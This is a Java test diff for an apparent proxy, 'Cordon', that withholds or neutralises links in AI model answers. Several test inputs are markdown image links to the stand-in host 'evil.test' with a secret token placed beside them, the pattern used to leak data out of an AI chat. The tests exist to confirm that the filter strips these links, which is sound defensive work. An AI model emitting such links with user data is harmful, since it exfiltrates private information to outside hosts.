@@ -19,6 +19,7 @@ import dev.cordon.engine.audit.ThreatCount;
 import dev.cordon.engine.policy.Policy;
 import java.io.ByteArrayOutputStream;
 import java.nio.ByteBuffer;
+import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.Test;
 
@@ -80,6 +81,19 @@ class AnswerLinksTest {
       at = end;
     }
     return all.toString();
+  }
+
+  @Test
+  void aStringThatBreaksOffWithinJsonIsReadToWhereItDoes() {
+    for (String answered : List.of("{\"a\": \"%s\n", "[\"%s\\x\"]", " {\"%s\n\": 1}")) {
+      String link = "![i](https://evil.test/a?d=1) ";
+      Exchange exchange = ask(policy("output: {links: neutralise}"), MAIL);
+      String text = String.format(answered, link + token);
+      String json = text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n");
+      String got = texts(new String(receive(exchange, 200, answer(json)), UTF_8), "content");
+      assertFalse(got.contains("evil.test"), got);
+      assertTrue(got.contains(MAIL), got);
+    }
   }
 
   @Test
@@ -157,13 +171,58 @@ class AnswerLinksTest {
   }
 
   @Test
-  void aBlockedAnswerStaysValidToItsEnd() {
+  void aBlockedStreamEndsWithTheVendorsError() {
     Exchange exchange = ask(policy("output: {links: block}"), "Mail of " + MAIL);
     String events =
         delta("Hi ") + delta("[x](https://ev") + delta("il.test/) and " + token) + delta("more");
     String got = stream(exchange, events + "data: [DONE]\n\n", 1000);
     assertEquals("Hi [x]([withheld: output.links]", texts(got, "content"));
-    assertTrue(got.endsWith("data: [DONE]\n\n"), got);
+    String error = got.substring(got.lastIndexOf("data: "));
+    assertTrue(error.startsWith("data: {\"error\":{\"message\":\"Cordon withheld"), got);
+    assertTrue(error.contains("\"code\":\"output.links\"}}\n\n"), got);
+    assertEquals("output.links", records.only().rule());
     assertFalse(got.contains("evil"), got);
+  }
+
+  @Test
+  void noCallLearnsWhatAnotherOneNamedOrHowItEnded() {
+    Engine engine = Engine.start(config(policy("output: {links: block}")).observer(records));
+    String link = "![x](https://shop.test/a.png?d=1)";
+    for (int i = 0; i < 20; i++) {
+      Exchange naming = engine.open(chat());
+      naming.judge(message("see shop.test"));
+      assertEquals(link, content(receive(naming, 200, answer(link))));
+      Exchange other = engine.open(chat());
+      other.judge(message("hello"));
+      assertEquals(
+          "[withheld: output.links]",
+          content(receive(other, 200, answer(link))).replaceAll("^!\\[x]\\(", ""));
+      Exchange clean = engine.open(chat());
+      clean.judge(message("hello"));
+      assertEquals("fine", content(receive(clean, 200, answer("fine"))));
+    }
+  }
+
+  @Test
+  void answersSideBySideEachHaveTheirOwnHosts() {
+    Engine engine = Engine.start(config(policy("output: {links: neutralise}")).observer(records));
+    Map<String, String> type = Map.of("content-type", "text/event-stream");
+    StreamTransform[] open = new StreamTransform[12];
+    for (int i = 0; i < open.length; i++) {
+      Exchange exchange = engine.open(chat());
+      exchange.judge(message("see host" + i + ".test"));
+      open[i] = exchange.answer(200, TestCalls.headers(type));
+    }
+    for (int i = 0; i < open.length; i++) {
+      int next = (i + 1) % open.length;
+      String event = delta("[a](https://host" + i + ".test/) [b](https://host" + next + ".test/)");
+      ByteArrayOutputStream out = new ByteArrayOutputStream();
+      write(out, open[i].transform(ByteBuffer.wrap(event.getBytes(UTF_8))));
+      write(out, open[i].finish());
+      write(out, open[i].finish());
+      open[i].abort(null);
+      String got = new String(out.toByteArray(), UTF_8);
+      assertEquals(delta("[a](https://host" + i + ".test/) [b]()"), got);
+    }
   }
 }
